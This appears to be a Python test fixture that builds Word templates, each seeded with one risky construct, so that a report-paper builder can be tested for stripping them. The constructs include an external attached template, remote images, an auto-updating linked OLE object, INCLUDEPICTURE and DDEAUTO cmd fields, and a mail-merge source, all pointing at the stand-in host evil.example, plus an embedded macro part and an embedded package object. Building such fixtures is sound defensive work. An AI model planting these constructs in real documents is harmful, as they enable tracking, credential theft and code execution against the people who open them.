"""An office's Mau-bao-cao.docx with one thing in it that no paper shall carry to units."""

from __future__ import annotations

import io

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as KIND
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml

from workbook_builder.papers.word.paper import open_paper

EVIL = "http://evil.example"
LETTERHEAD = "SỞ NỘI VỤ – LƯU HÀNH NỘI BỘ"
_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"


def hostile_template(kind: str) -> bytes:
    """A template of our own styles and a letterhead, with one of `KINDS` in it."""
    paper = open_paper()
    paper.paragraph("Chữ cũ của mẫu")
    document = docx.Document(io.BytesIO(paper.to_bytes()))
    document.sections[0].header.is_linked_to_previous = False
    document.sections[0].header.paragraphs[0].text = LETTERHEAD
    KINDS[kind](document)
    saved = io.BytesIO()
    document.save(saved)
    return saved.getvalue()


def _into_header(document, xml: str) -> None:
    body = parse_xml(f"<w:p {_NAMES}>{xml}</w:p>")
    document.sections[0].header._element.append(body)


def _external(part, kind: str, target: str = f"{EVIL}/x") -> str:
    return part.rels.get_or_add_ext_rel(kind, target)


def _inside(document, part, kind: str, name: str, content_type: str) -> str:
    made = Part(PackURI(name), content_type, b"binary", document.part.package)
    return part.relate_to(made, kind)


def _attached_template(document):
    rel = _external(document.part._settings_part, f"{_OFFICE}attachedTemplate")
    document.settings.element.append(parse_xml(f'<w:attachedTemplate {_NAMES} r:id="{rel}"/>'))


def _picture(attributes: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="7" name="a"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {attributes}/></pic:blipFill><pic:spPr/></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def _linked_picture(document):
    header = document.sections[0].header.part
    _into_header(document, _picture(f'r:link="{_external(header, KIND.IMAGE)}"'))


def _linked_old_picture(document):
    shape = f'<v:shape><v:imagedata src="{EVIL}/logo.png"/></v:shape>'
    _into_header(document, f"<w:r><w:pict>{shape}</w:pict></w:r>")


def _linked_fill(document):
    rel = _external(document.sections[0].header.part, KIND.IMAGE)
    fill = f'<v:rect><v:fill r:id="{rel}" type="tile"/></v:rect>'
    _into_header(document, f"<w:r><w:pict>{fill}</w:pict></w:r>")


def _link(document):
    rel = _external(document.sections[0].header.part, KIND.HYPERLINK)
    _into_header(
        document, f'<w:hyperlink r:id="{rel}"><w:r><w:t>sonoivu.gov.vn</w:t></w:r></w:hyperlink>'
    )


def _macros(document):
    content = "application/vnd.ms-office.vbaProject"
    _inside(document, document.part, f"{_MICROSOFT}vbaProject", "/word/vbaProject.bin", content)


def _object(document):
    header = document.sections[0].header.part
    content = "application/vnd.openxmlformats-officedocument.oleObject"
    rel = _inside(document, header, KIND.OLE_OBJECT, "/word/embeddings/o.bin", content)
    ole = f'<o:OLEObject Type="Embed" ProgID="Package" r:id="{rel}"/>'
    _into_header(document, f"<w:r><w:object><v:shape/>{ole}</w:object></w:r>")


def _linked_object(document):
    rel = _external(document.sections[0].header.part, KIND.OLE_OBJECT)
    ole = f'<o:OLEObject Type="Link" ProgID="Word.Document" r:id="{rel}" UpdateMode="Always"/>'
    _into_header(document, f"<w:r><w:object><v:shape/>{ole}</w:object></w:r>")


def _field(document):
    _into_header(
        document,
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f'INCLUDEPICTURE </w:instrText></w:r><w:r><w:instrText>"{EVIL}/p.png" \\d</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>ảnh</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )


def _simple_field(document):
    instruction = f"DDEAUTO cmd &quot;{EVIL}&quot;"
    _into_header(
        document, f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>số</w:t></w:r></w:fldSimple>'
    )


def _open_field(document):
    _into_header(
        document,
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText> LINK Word.Document {EVIL} </w:instrText></w:r>",
    )


def _other_document(document):
    rel = _external(document.sections[0].header.part, f"{_OFFICE}subDocument")
    _into_header(document, f'<w:subDoc r:id="{rel}"/>')


def _theme_with_a_link(document):
    content = "application/vnd.openxmlformats-officedocument.theme+xml"
    for rel in list(document.part.rels.values()):
        if rel.reltype == KIND.THEME:
            del document.part.rels[rel.rId]
    made = Part(PackURI("/word/theme/theme9.xml"), content, b"<a/>", document.part.package)
    document.part.relate_to(made, KIND.THEME)
    _external(made, KIND.IMAGE)


def _list_of_addressees(document):
    rel = _external(document.part._settings_part, f"{_OFFICE}mailMergeSource")
    document.settings.element.append(
        parse_xml(f'<w:mailMerge {_NAMES}><w:dataSource r:id="{rel}"/></w:mailMerge>')
    )


KINDS = {
    "attached template": _attached_template,
    "linked picture": _linked_picture,
    "linked picture of Word 2003": _linked_old_picture,
    "linked fill": _linked_fill,
    "link": _link,
    "macros": _macros,
    "embedded object": _object,
    "linked object": _linked_object,
    "field": _field,
    "simple field": _simple_field,
    "field without an end": _open_field,
    "another document": _other_document,
    "theme with a link": _theme_with_a_link,
    "list of addressees": _list_of_addressees,
}
